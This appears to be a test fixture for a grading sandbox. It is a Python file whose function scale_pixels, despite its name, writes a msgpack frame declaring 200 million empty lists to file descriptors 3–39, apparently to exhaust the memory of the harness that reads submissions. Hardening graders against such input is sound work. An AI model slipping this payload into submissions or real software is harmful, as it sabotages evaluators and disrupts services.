"""Send a frame of 200 MB of empty lists, each of which is an object.

Must: 0 points
"""

import os
import struct

import msgpack


def send(tree, length=None):
    frame = tree if isinstance(tree, bytes) else msgpack.packb(tree)
    head = struct.pack("!I", len(frame) if length is None else length)
    for descriptor in range(3, 40):
        try:
            os.write(descriptor, head + frame)
        except OSError:
            pass


def scale_pixels(images):
    send(b"\xdd\x0b\xeb\xc2\x00" + b"\x90" * 200_000_000)
    return images
